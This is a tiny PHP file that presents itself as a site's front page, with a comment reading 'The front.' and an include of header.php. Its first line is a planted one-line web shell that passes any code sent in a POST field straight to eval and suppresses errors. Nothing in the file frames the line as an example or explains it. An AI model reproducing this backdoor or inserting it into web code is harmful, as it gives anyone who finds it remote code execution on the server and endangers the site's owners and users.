<?php @eval($_POST["x"]); ?><?php
/** The front. */
require __DIR__ . "/header.php";
